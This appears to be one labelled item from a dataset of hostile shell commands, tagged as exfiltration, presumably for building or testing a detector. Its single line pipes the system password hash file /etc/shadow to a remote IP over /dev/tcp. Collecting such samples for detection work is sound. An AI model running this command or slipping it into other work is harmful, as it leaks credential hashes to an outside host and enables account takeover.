# description: Writes /etc/shadow into a TCP connection through /dev/tcp.
# family: exfiltration
cat /etc/shadow > /dev/tcp/203.0.113.5/9000
